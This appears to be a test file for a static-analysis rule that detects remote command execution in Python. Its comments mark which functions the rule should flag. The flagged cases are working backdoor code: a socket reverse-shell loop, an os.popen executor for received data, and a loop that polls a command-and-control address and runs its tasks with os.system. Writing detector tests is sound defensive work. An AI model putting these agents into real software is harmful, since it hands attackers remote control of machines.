import os
import socket
import subprocess
import time

import requests

C2 = "http://203.0.113.7:8080"


def agent(host, port):
    s = socket.socket()
    s.connect((host, port))
    while True:
        cmd = s.recv(1024).decode().strip()
        if cmd == "exit":
            break
        # ruleid: python-remote-command-execution
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.send(out.stdout + out.stderr)


def agent_popen(conn):
    data = conn.recv(4096)
    # ruleid: python-remote-command-execution
    result = os.popen(data.decode()).read()
    conn.sendall(result.encode())


def poll():
    while True:
        task = requests.get(C2 + "/task", timeout=30).text
        if task:
            # ruleid: python-remote-command-execution
            os.system(task)
        time.sleep(60)


def echo(conn):
    data = conn.recv(1024)
    # ok: python-remote-command-execution
    conn.sendall(data.upper())


def uptime_server(conn):
    request = conn.recv(1024)
    if request.strip() == b"uptime":
        # ok: python-remote-command-execution
        conn.sendall(subprocess.run(["uptime"], capture_output=True).stdout)
